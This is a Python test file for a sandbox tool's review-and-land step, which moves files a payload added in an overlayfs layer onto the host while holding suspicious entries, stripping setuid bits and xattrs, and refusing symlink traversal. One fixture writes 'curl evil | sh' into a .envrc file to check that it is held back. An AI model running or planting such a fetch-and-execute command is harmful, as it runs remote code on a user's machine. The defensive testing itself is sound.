"""apply's moves (boxyd/plan/reviewmove.py) on real directories: an upper layer as
overlayfs leaves it for what a payload added (plain entries, no marks) read and
landed by the review child's own code, in-process. What a move lands must be what a
copy lands; what would land otherwise is copied; nothing held, unchosen or made by
the host meanwhile rides along with a directory moved whole."""

from __future__ import annotations

import os
import tempfile
import time
from pathlib import Path

from boxyd.plan import reviewland, reviewtree
from boxyd.plan.reviewtree import Context


def _apply(upper: Path, host: Path, paths: list[str] | None = None) -> reviewland.Landed:
    changes = reviewtree.read(str(upper), str(host), Context())
    chosen = reviewland.select(changes, paths)
    return reviewland.land(str(upper), str(host), chosen, time.time_ns())


def _trees(tmp_path: Path) -> tuple[Path, Path]:
    upper, host = tmp_path / "upper", tmp_path / "host"
    upper.mkdir()
    host.mkdir()
    return upper, host


def _package(root: Path) -> None:
    (root / "a" / "lib").mkdir(parents=True)
    (root / "a" / "index.js").write_text("module.exports = 1\n")
    (root / "a" / "lib" / "cli.js").write_text("#!/usr/bin/env node\n")
    os.chmod(root / "a" / "lib" / "cli.js", 0o755)
    (root / ".bin").mkdir()
    os.symlink("../a/lib/cli.js", root / ".bin" / "a")


def test_a_fresh_tree_moves_whole_and_lands_as_a_copy_would(tmp_path: Path) -> None:
    upper, host = _trees(tmp_path)
    _package(upper / "node_modules")
    ino = os.stat(upper / "node_modules" / "a" / "index.js").st_ino
    got = _apply(upper, host)
    assert got.refused == [] and len(got.applied) == 7
    nm = host / "node_modules"
    assert (nm / "a" / "index.js").read_text() == "module.exports = 1\n"
    assert os.stat(nm / "a" / "index.js").st_ino == ino  # moved, not copied
    assert os.stat(nm / "a" / "lib" / "cli.js").st_mode & 0o7777 == 0o755
    assert os.readlink(nm / ".bin" / "a") == "../a/lib/cli.js"
    assert not (upper / "node_modules").exists()
    assert reviewtree.read(str(upper), str(host), Context()) == []


def test_what_a_move_would_land_differently_is_copied(tmp_path: Path) -> None:
    upper, host = _trees(tmp_path)
    d = upper / "d"
    d.mkdir()
    for name in ("plain", "linked", "suid", "noted"):
        (d / name).write_text(f"{name}\n")
    os.link(d / "linked", upper / "linked-too")  # a second name: the inode must stay put
    os.chmod(d / "suid", 0o4755)
    os.setxattr(d / "noted", "user.note", b"the payload's")
    plain = os.stat(d / "plain").st_ino
    got = _apply(upper, host)
    assert got.refused == []
    assert os.stat(host / "d" / "plain").st_ino == plain
    assert os.stat(host / "d" / "linked").st_ino != os.stat(host / "linked-too").st_ino
    assert os.stat(host / "d" / "suid").st_mode & 0o7777 == 0o755
    assert os.listxattr(host / "d" / "noted") == []
    assert [(host / "d" / n).read_text() for n in ("linked", "suid", "noted")] == [
        "linked\n", "suid\n", "noted\n",
    ]  # fmt: skip


def test_a_held_file_keeps_its_directory_from_moving_whole(tmp_path: Path) -> None:
    upper, host = _trees(tmp_path)
    (upper / "pkg").mkdir()
    (upper / "pkg" / "a.js").write_text("a\n")
    (upper / "pkg" / ".envrc").write_text("curl evil | sh\n")
    got = _apply(upper, host)
    assert [p for p, _ in got.refused] == ["pkg/.envrc"]
    assert (host / "pkg" / "a.js").read_text() == "a\n"
    assert not (host / "pkg" / ".envrc").exists() and (upper / "pkg" / ".envrc").exists()


def test_a_partial_apply_moves_only_what_was_chosen(tmp_path: Path) -> None:
    upper, host = _trees(tmp_path)
    _package(upper / "node_modules")
    got = _apply(upper, host, ["node_modules/a/index.js"])
    assert sorted(got.applied) == ["node_modules", "node_modules/a", "node_modules/a/index.js"]
    assert sorted(p.name for p in (host / "node_modules").iterdir()) == ["a"]
    assert sorted(p.name for p in (host / "node_modules" / "a").iterdir()) == ["index.js"]
    assert (upper / "node_modules" / "a" / "lib" / "cli.js").exists()


def test_a_directory_the_host_made_meanwhile_is_not_replaced(tmp_path: Path) -> None:
    upper, host = _trees(tmp_path)
    (upper / "pkg").mkdir()
    (upper / "pkg" / "a.js").write_text("payload\n")
    (upper / "pkg" / "b.js").write_text("payload\n")
    changes = reviewtree.read(str(upper), str(host), Context())
    (host / "pkg").mkdir()
    (host / "pkg" / "a.js").write_text("host\n")
    got = reviewland.land(str(upper), str(host), changes, time.time_ns())
    assert got.refused == [("pkg/a.js", "the host made it meanwhile")]
    assert (host / "pkg" / "a.js").read_text() == "host\n"
    assert (host / "pkg" / "b.js").read_text() == "payload\n"


def test_a_host_symlink_on_the_way_stops_a_move(tmp_path: Path) -> None:
    upper, host = _trees(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (host / "sub").mkdir()
    (upper / "sub" / "new").mkdir(parents=True)
    (upper / "sub" / "new" / "x.js").write_text("x\n")
    (upper / "sub" / "y.js").write_text("y\n")
    changes = reviewtree.read(str(upper), str(host), Context())
    (host / "sub").rename(host / "sub.moved")
    (host / "sub").symlink_to(outside)
    got = reviewland.land(str(upper), str(host), changes, time.time_ns())
    assert got.applied == []
    assert {why for _, why in got.refused} == {"a symlink on the way (not followed)"}
    assert list(outside.iterdir()) == []


def test_layers_on_another_filesystem_are_copied(tmp_path: Path) -> None:
    # /dev/shm is a tmpfs of its own on every Linux: the second filesystem (not a skip)
    assert os.stat("/dev/shm").st_dev != os.stat(tmp_path).st_dev, "tmp_path is on /dev/shm"
    with tempfile.TemporaryDirectory(dir="/dev/shm") as other:
        upper, host = Path(other), tmp_path / "host"
        host.mkdir()
        _package(upper / "node_modules")
        got = _apply(upper, host)
        assert got.refused == []
        assert (host / "node_modules" / "a" / "index.js").read_text() == "module.exports = 1\n"
        assert os.readlink(host / "node_modules" / ".bin" / "a") == "../a/lib/cli.js"


def test_an_entry_the_review_did_not_list_keeps_its_directory_from_moving(
    tmp_path: Path,
) -> None:
    """What the review did not list (a whiteout overlayfs left, or anything made after
    the walk) never rides along with a directory moved whole."""
    upper, host = _trees(tmp_path)
    _package(upper / "node_modules")
    changes = reviewtree.read(str(upper), str(host), Context())
    (upper / "node_modules" / "a" / "late.js").write_text("not reviewed\n")
    got = reviewland.land(str(upper), str(host), changes, time.time_ns())
    assert got.refused == [] and len(got.applied) == 7
    assert (host / "node_modules" / "a" / "index.js").read_text() == "module.exports = 1\n"
    assert not (host / "node_modules" / "a" / "late.js").exists()


def test_a_fifo_in_a_new_directory_is_held_and_the_rest_lands(tmp_path: Path) -> None:
    upper, host = _trees(tmp_path)
    _package(upper / "node_modules")
    os.mkfifo(upper / "node_modules" / "a" / "pipe")
    got = _apply(upper, host)
    assert [p for p, _ in got.refused] == ["node_modules/a/pipe"]
    assert os.readlink(host / "node_modules" / ".bin" / "a") == "../a/lib/cli.js"
    assert not (host / "node_modules" / "a" / "pipe").exists()
